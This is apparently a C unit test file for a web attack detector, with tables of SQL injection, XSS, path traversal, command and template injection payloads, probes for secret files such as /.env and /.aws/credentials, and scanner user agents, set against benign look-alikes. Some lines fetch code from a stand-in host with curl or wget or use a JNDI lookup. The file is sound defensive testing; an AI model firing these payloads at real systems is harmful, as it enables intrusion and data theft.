/* test_attack.c - what looks like an attack, and, which matters more, what does not. */
#include "scoring/attack_match.h"

#include "tests/unit/unit.h"

struct row {
    struct str text;
    enum attack attack;
};

static const struct row values[] = {
    /* SQL: a text closed that nobody opened */
    {LIT("1' or '1'='1"), ATTACK_SQL_INJECTION},
    {LIT("' OR 'x'='x"), ATTACK_SQL_INJECTION},
    {LIT("\" or \"\"=\""), ATTACK_SQL_INJECTION},
    {LIT("bob') or ('a'='a"), ATTACK_SQL_INJECTION},
    {LIT("7%' and '%'='"), ATTACK_SQL_INJECTION},
    {LIT("admin'--"), ATTACK_SQL_INJECTION},
    {LIT("admin' #"), ATTACK_SQL_INJECTION},
    {LIT("x' AND email IS NULL; --"), ATTACK_SQL_INJECTION},
    {LIT("x' or name like '%a%"), ATTACK_SQL_INJECTION},
    {LIT("5'/**/or/**/5/**/like/**/5"), ATTACK_SQL_INJECTION},
    {LIT("a'||(select version())||'"), ATTACK_SQL_INJECTION},
    {LIT("'; DROP TABLE users; --"), ATTACK_SQL_INJECTION},
    {LIT("' or 1--"), ATTACK_SQL_INJECTION},
    {LIT("' or '1"), ATTACK_SQL_INJECTION},
    {LIT("9' && '1'='1"), ATTACK_SQL_INJECTION},
    {LIT("9' order by 3#"), ATTACK_SQL_INJECTION},
    {LIT("9' or ascii(substr(user,1,1))>64"), ATTACK_SQL_INJECTION},
    /* SQL: where a number was expected */
    {LIT("1 or 1=1"), ATTACK_SQL_INJECTION},
    {LIT("1) OR (2*3=6"), ATTACK_SQL_INJECTION},
    {LIT("-1 OR 3+7-7-1=0+0+0+1 --"), ATTACK_SQL_INJECTION},
    {LIT("4 and 8 in (8)"), ATTACK_SQL_INJECTION},
    {LIT("4 and not 1 between 2 and 3"), ATTACK_SQL_INJECTION},
    {LIT("4 and exists(select 1)"), ATTACK_SQL_INJECTION},
    {LIT("1 union select null,null"), ATTACK_SQL_INJECTION},
    {LIT("1 UnIoN\nAlL\tSeLeCt name from users"), ATTACK_SQL_INJECTION},
    {LIT("1/*!50000union*//*!select*/1,2"), ATTACK_SQL_INJECTION},
    {LIT("1 union(select(1))"), ATTACK_SQL_INJECTION},
    {LIT("1;waitfor delay '0:0:5'--"), ATTACK_SQL_INJECTION},
    {LIT("1 and sleep(5)"), ATTACK_SQL_INJECTION},
    {LIT("(select * from users)"), ATTACK_SQL_INJECTION},
    {LIT("if(now()=sysdate(),sleep(6),0)"), ATTACK_SQL_INJECTION},
    {LIT("1; exec xp_cmdshell 'dir'"), ATTACK_SQL_INJECTION},
    {LIT("(case when 3=3 then 1 end)"), ATTACK_SQL_INJECTION},
    {LIT("1 order by 9--"), ATTACK_SQL_INJECTION},
    /* scripts in a page */
    {LIT("<script>alert(1)</script>"), ATTACK_XSS},
    {LIT("\"><ScRiPt src=//e.example/x>"), ATTACK_XSS},
    {LIT("<img src=x onerror=alert(1)>"), ATTACK_XSS},
    {LIT("<svg/onload=alert(1)>"), ATTACK_XSS},
    {LIT("\" onmouseover=\"alert(1)"), ATTACK_XSS},
    {LIT("javascript:alert(document.domain)"), ATTACK_XSS},
    {LIT("';alert(1)//"), ATTACK_XSS},
    {LIT("<a href=\"javascript:x()\">"), ATTACK_XSS},
    {LIT("<iframe src=x>"), ATTACK_XSS},
    {LIT("data:text/html,<b>"), ATTACK_XSS},
    /* files */
    {LIT("../../../../etc/passwd"), ATTACK_TRAVERSAL},
    {LIT("..\\..\\windows\\win.ini"), ATTACK_TRAVERSAL},
    {LIT("/etc/passwd"), ATTACK_TRAVERSAL},
    {LIT("....//....//x"), ATTACK_TRAVERSAL},
    {LIT("file:///etc/hosts"), ATTACK_TRAVERSAL},
    {LIT("C:\\boot.ini"), ATTACK_TRAVERSAL},
    {LIT("\xc0\xae\xc0\xae/x"), ATTACK_TRAVERSAL},
    {LIT("index.php\0.jpg"), ATTACK_TRAVERSAL},
    {LIT("index.php\0"), ATTACK_TRAVERSAL},
    {LIT("http://e.example/shell.txt?"), ATTACK_TRAVERSAL},
    {LIT("http://e.example/shell.txt?.php"), ATTACK_TRAVERSAL},
    {LIT("WEB-INF/web.xml"), ATTACK_TRAVERSAL},
    /* commands */
    {LIT("1; cat /etc/hosts"), ATTACK_COMMAND},
    {LIT("x|whoami"), ATTACK_COMMAND},
    {LIT("x && ping -c 3 10.0.0.1"), ATTACK_COMMAND},
    {LIT("`id`"), ATTACK_COMMAND},
    {LIT("$(curl http://e.example/x)"), ATTACK_COMMAND},
    {LIT("() { :; }; echo x"), ATTACK_COMMAND},
    {LIT("${jndi:ldap://e.example/a}"), ATTACK_COMMAND},
    {LIT("${${lower:j}ndi:x}"), ATTACK_COMMAND},
    {LIT("<!--#exec cmd=\"ls\"-->"), ATTACK_COMMAND},
    {LIT("a; wget http://e.example/x.sh"), ATTACK_COMMAND},
    /* code */
    {LIT("php://filter/convert.base64-encode/resource=index"), ATTACK_CODE},
    {LIT("<?php system('id'); ?>"), ATTACK_CODE},
    {LIT("{{7*7}}"), ATTACK_CODE},
    {LIT("${ 7 * 7 }"), ATTACK_CODE},
    {LIT("#{7*7}"), ATTACK_CODE},
    {LIT("{{''.__class__.__mro__}}"), ATTACK_CODE},
    {LIT("%{(#_memberAccess=1)}"), ATTACK_CODE},
    {LIT("-d allow_url_include=on"), ATTACK_CODE},
    {LIT("<!DOCTYPE x SYSTEM \"file:/x\">"), ATTACK_CODE},
    {LIT("O:8:\"stdClass\":1:{"), ATTACK_CODE},
    /* heads */
    {LIT("x\r\nSet-Cookie: a=b"), ATTACK_HEADER},
    {LIT("x\nLocation: http://e.example"), ATTACK_HEADER},
};

static const struct str honest[] = {
    LIT(""),
    LIT("42"),
    LIT("2026-11-22T10:00:00+01:00"),
    LIT("10.0.0.1:8080"),
    LIT("O'Brien"),
    LIT("Conan O'Brien and Pat O'Neill"),
    LIT("L'Hospitalet de Llobregat, carrer d'en Roca 7"),
    LIT("Castell-Platja d'Aro"),
    LIT("c/ Leopoldo Alas \"Clarin\" 4, 6?b"),
    LIT("rock 'n' roll"),
    LIT("the boys' and the girls' room"),
    LIT("the boys' -- and the girls'"),
    LIT("git \"--help\" option"),
    LIT("\"--stdin\""),
    LIT("print('-----')"),
    LIT("fast-forward\" and \"do not"),
    LIT("int main() {"),
    LIT("if not isinstance(a, tuple) or len(a) != 2:"),
    LIT("return self.__class__(x)"),
    LIT("<div class=\"grid\">1</div>"),
    LIT("string(STRIP ${${list_var}})"),
    LIT("--format=<style>"),
    LIT("what is in the /etc/passwd file"),
    LIT("$ echo '{\"foo\": 0}' | jq ."),
    LIT("dat=file:///storage/0/b.apk"),
    LIT("the workers' union hall"),
    LIT("5' or 6' tall"),
    LIT("between 5' and 6'"),
    LIT("select a plan"),
    LIT("(select one from list)"),
    LIT("please; select a plan; and pay"),
    LIT("how to select and order by name"),
    LIT("union street"),
    LIT("union select committee"),
    LIT("student union, select a room"),
    LIT("drop table lamp"),
    LIT("update your profile and set a password"),
    LIT("insert into the slot"),
    LIT("where is the cat or dog"),
    LIT("this or that and more"),
    LIT("black and white = grey"),
    LIT("a=b"),
    LIT("x = y and z = w"),
    LIT("if (a == b && c == d)"),
    LIT("for (i = 0; i < n; i++)"),
    LIT("select name from users where id = 'x' and age = 'y'"),
    LIT("time.sleep(5)"),
    LIT("python sleep(5) example"),
    LIT("javascript: the good parts (book)"),
    LIT("javascript alert() function"),
    LIT("what does eval() do"),
    LIT("a < b and c > d"),
    LIT("I <3 you"),
    LIT("<b>bold</b>"),
    LIT("online=1"),
    LIT("on time = good"),
    LIT("C=S;O=A"),
    LIT("name|id|date"),
    LIT("dog|cat|mouse"),
    LIT("salt & pepper"),
    LIT("R&D; echo park"),
    LIT("AT&T"),
    LIT("$100 (net)"),
    LIT("50% off!"),
    LIT("#1 in town"),
    LIT("*.txt"),
    LIT("../index.html"),
    LIT("wait... what... no..."),
    LIT("/usr/local/bin"),
    LIT("C:\\Users\\bob\\file.txt"),
    LIT("http://www.example.org/?a=1"),
    LIT("https://example.org/a/b.html#top"),
    LIT("bob+tag@example.org"),
    LIT("{{name}}"),
    LIT("${name}"),
    LIT("{\"a\":{\"b\":[1,2]}}"),
    LIT("[1,2],[3,4]"),
    LIT("p@ss'w0rd\"#1"),
    LIT("c@ncho$r!*d45+co"),
    LIT("JyI="),
    LIT("dGhpcyBpcyBhIHRlc3Q/IQ=="),
    LIT("grupo \"polito\" 90 2?a"),
    LIT("Feed: example/main (example.com - Jordan)"),
    LIT("caf\xc3\xa9 'noir' or 'blanc'"),
    LIT("\x12\x34'\0\xff or\x7f\x80"),
    LIT("ping pong 5"),
    LIT("curl hair; wget"),
    LIT("line one\r\nline two: three"),
};

static const struct row paths[] = {
    {LIT("/"), ATTACK_NONE},
    {LIT(""), ATTACK_NONE},
    {LIT("/index.html"), ATTACK_NONE},
    {LIT("/images/web/2009/photo.large.jpg"), ATTACK_NONE},
    {LIT("/blog/../images/x.png"), ATTACK_NONE},
    {LIT("/files/wrap.backup/"), ATTACK_NONE},
    {LIT("/wp-login.php"), ATTACK_NONE},
    {LIT("/.well-known/acme-challenge/x"), ATTACK_NONE},
    {LIT("/robots.txt"), ATTACK_NONE},
    {LIT("/environment/.environment"), ATTACK_NONE},
    {LIT("/blog/why-etc-passwd-is-readable"), ATTACK_NONE},
    {LIT("/talks/union-select-committee.html"), ATTACK_NONE},
    {LIT("/~bob/a (1).txt"), ATTACK_NONE},
    {LIT("/c++/x"), ATTACK_NONE},
    {LIT("*"), ATTACK_NONE},
    {LIT("/.env"), ATTACK_PROBE},
    {LIT("/.env.production"), ATTACK_PROBE},
    {LIT("/app/.git/config"), ATTACK_PROBE},
    {LIT("/.aws/credentials"), ATTACK_PROBE},
    {LIT("/wp-config.php.bak"), ATTACK_PROBE},
    {LIT("/wp-config.php~"), ATTACK_PROBE},
    {LIT("/shop/index.jsp.OLD"), ATTACK_PROBE},
    {LIT("/VENDOR/PHPUNIT/phpunit/src/Util/PHP/eval-stdin.php"), ATTACK_PROBE},
    {LIT("/w00tw00t.at.ISC.SANS.DFind:)"), ATTACK_PROBE},
    {LIT("/dump.sql"), ATTACK_PROBE},
    {LIT("/etc/passwd"), ATTACK_TRAVERSAL},
    {LIT("/static/../../../x"), ATTACK_TRAVERSAL},
    {LIT("/cgi-bin/../../../../bin/sh"), ATTACK_TRAVERSAL},
    {LIT("/a/..;/..;/manager"), ATTACK_TRAVERSAL},
    {LIT("/WEB-INF/web.xml"), ATTACK_TRAVERSAL},
    {LIT("/scripts/..\\../winnt/system32/cmd.exe"), ATTACK_TRAVERSAL},
    {LIT("/x/cmd.exe"), ATTACK_COMMAND},
    {LIT("/item/1' or '1'='1"), ATTACK_SQL_INJECTION},
    {LIT("/search/<script>x()</script>"), ATTACK_XSS},
    {LIT("/a/${jndi:ldap://x}"), ATTACK_COMMAND},
};

#define BROWSER "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"

static const struct row agents[] = {
    {LIT(""), ATTACK_NONE},
    {LIT("-"), ATTACK_NONE},
    {LIT("curl/8.5.0"), ATTACK_NONE},
    {LIT(BROWSER " (KHTML, like Gecko) Chrome/120.0 Safari/537.36"), ATTACK_NONE},
    {LIT("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
     ATTACK_NONE},
    {LIT("python-httpx/0.23.0"), ATTACK_NONE},
    {LIT("Opera/9.80 (J2ME/MIDP; Opera Mini; U; en)"), ATTACK_NONE},
    {LIT("Feedfetcher-Google; id=17"), ATTACK_NONE},
    {LIT("Mozilla/5.0 (X11; L'Agent) x"), ATTACK_NONE},
    {LIT("sqlmap/1.5.2#stable (http://sqlmap.org)"), ATTACK_SCANNER},
    {LIT("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"), ATTACK_SCANNER},
    {LIT("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)"),
     ATTACK_SCANNER},
    {LIT("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; w3af.sf.net)"),
     ATTACK_SCANNER},
    {LIT("Mozilla/5.0 zgrab/0.x"), ATTACK_SCANNER},
    {LIT("Fuzz Faster U Fool v1.3.1"), ATTACK_SCANNER},
    {LIT(BROWSER " Netsparker"), ATTACK_SCANNER},
    {LIT("() { :;}; /bin/bash -c 'id'"), ATTACK_COMMAND},
    {LIT("${jndi:ldap://e.example/a}"), ATTACK_COMMAND},
    {LIT("x' or 1=1 --"), ATTACK_SQL_INJECTION},
    {LIT("<script>alert(1)</script>"), ATTACK_XSS},
};

static void check(const char *what, struct str text, enum attack got, enum attack want)
{
    ck_assert_msg(got == want, "%s \"%.*s\": got \"%s\", want \"%s\"", what,
                  STR_ARGS(text), attack_name(got), attack_name(want));
}

START_TEST(knows_an_attack_in_a_value)
{
    struct str text = values[_i].text;
    check("value", text, attack_in_value(text), values[_i].attack);
}
END_TEST

START_TEST(lets_an_honest_value_go)
{
    check("value", honest[_i], attack_in_value(honest[_i]), ATTACK_NONE);
}
END_TEST

START_TEST(tells_a_probe_from_a_path)
{
    struct str text = paths[_i].text;
    check("path", text, attack_in_path(text), paths[_i].attack);
}
END_TEST

START_TEST(knows_a_scanner_by_its_agent)
{
    struct str text = agents[_i].text;
    check("agent", text, attack_in_agent(text), agents[_i].attack);
}
END_TEST

/* --- the tables --- */

enum { EXAMPLE_BYTES = 128 };

/* A text that the signature is made for, with what has to stand before it. */
static struct str example_of(const struct signature *s, char out[EXAMPLE_BYTES])
{
    static const char *const capitals[] = {
        ['S'] = " ", ['V'] = " ", ['N'] = "7", ['Q'] = "'", ['C'] = "whoami",
        ['G'] = "",  ['W'] = "w", ['B'] = "",  ['E'] = ""};
    size_t n = 0;
    n += (size_t)snprintf(out, EXAMPLE_BYTES, "%s%s%s%s%s%s",
                          s->where & AT_START ? "" : "=", s->where & IN_MARKUP ? "<" : "",
                          s->where & IN_LINES ? "\n" : "",
                          s->where & AFTER_SLASH ? "/" : "",
                          s->where & AFTER_SIGN ? ";" : "", s->where & IN_SQL ? "(" : "");
    for (const char *p = s->pattern; *p; p++) {
        bool capital = *p >= 'A' && *p <= 'Z';
        n += (size_t)snprintf(out + n, EXAMPLE_BYTES - n, capital ? "%s" : "%.1s",
                              capital     ? capitals[(int)*p]
                              : *p == ' ' ? ""
                                          : p);
    }
    return (struct str){out, n};
}

START_TEST(every_signature_is_found_where_it_is_listed)
{
    char text[EXAMPLE_BYTES];
    const struct signature_list *l = &attack_signatures[_i];
    for (const struct signature *s = l->list; s && s->pattern; s++) {
        ck_assert_int_eq((uint8_t)s->pattern[0], _i);
        struct str example = example_of(s, text);
        ck_assert_msg(attack_in_value(example) != ATTACK_NONE,
                      "\"%s\" is not found in \"%.*s\"", s->pattern, STR_ARGS(example));
    }
    l = &attack_probes[_i];
    for (const struct signature *s = l->list; s && s->pattern; s++) {
        struct signature behind = {s->pattern, s->attack, AT_START | AFTER_SLASH};
        struct str example = example_of(&behind, text);
        ck_assert_msg(attack_in_path(example) != ATTACK_NONE,
                      "\"%s\" is not found in \"%.*s\"", s->pattern, STR_ARGS(example));
    }
}
END_TEST

START_TEST(every_scanner_is_found_where_it_is_listed)
{
    char text[EXAMPLE_BYTES];
    for (const struct signature *s = attack_scanners[_i].list; s && s->pattern; s++) {
        struct str example = example_of(s, text);
        check("agent", example, attack_in_agent(example), ATTACK_SCANNER);
    }
}
END_TEST

START_TEST(every_kind_has_a_name)
{
    ck_assert_str_eq(attack_name(ATTACK_NONE), "");
    for (int a = 1; a < ATTACKS_N; a++) {
        ck_assert_str_ne(attack_name((enum attack)a), "");
    }
}
END_TEST

/* --- bounds --- */

START_TEST(looks_no_further_than_its_limit)
{
    static const char attack[] = "<script>";
    char text[ATTACK_BYTES_MAX + 2];
    memset(text, 'x', sizeof text);
    memcpy(text + sizeof text - 2 - strlen(attack), attack, strlen(attack));
    struct str whole = {text, ATTACK_BYTES_MAX};
    check("at the limit", whole, attack_in_value(whole), ATTACK_XSS);
    memmove(text + 2, text, ATTACK_BYTES_MAX); /* "<scrip" is before the limit */
    whole.n += 2;
    check("past the limit", whole, attack_in_value(whole), ATTACK_NONE);
}
END_TEST

/* In memory of its own, which ends where the text ends, for AddressSanitizer. */
static void judge_in_pieces(struct str text)
{
    for (size_t n = 0; n <= text.n; n++) {
        char *p = malloc(n + 1);
        ck_assert_ptr_nonnull(p);
        struct str piece = {p + 1, n};
        memcpy(p + 1, text.p, n);
        attack_in_value(piece);
        attack_in_path(piece);
        attack_in_agent(piece);
        free(p);
    }
}

START_TEST(looks_no_further_than_the_text_reaches)
{
    for (int i = 0; i < ROWS(values); i++) {
        judge_in_pieces(values[i].text);
    }
    for (int i = 0; i < ROWS(honest); i++) {
        judge_in_pieces(honest[i]);
    }
    for (int i = 0; i < ROWS(agents); i++) {
        judge_in_pieces(agents[i].text);
    }
    for (int i = 0; i < ROWS(paths); i++) {
        judge_in_pieces(paths[i].text);
    }
}
END_TEST

int main(void)
{
    Suite *s = suite_create("attack");
    unit_table(s, "value", knows_an_attack_in_a_value, ROWS(values));
    unit_table(s, "honest", lets_an_honest_value_go, ROWS(honest));
    unit_table(s, "path", tells_a_probe_from_a_path, ROWS(paths));
    unit_table(s, "agent", knows_a_scanner_by_its_agent, ROWS(agents));
    unit_table(s, "signatures", every_signature_is_found_where_it_is_listed, 256);
    unit_table(s, "scanners", every_scanner_is_found_where_it_is_listed, 32);
    unit_case(s, "names", every_kind_has_a_name);
    unit_case(s, "limit", looks_no_further_than_its_limit);
    unit_case(s, "bounds", looks_no_further_than_the_text_reaches);
    return unit_run(s);
}
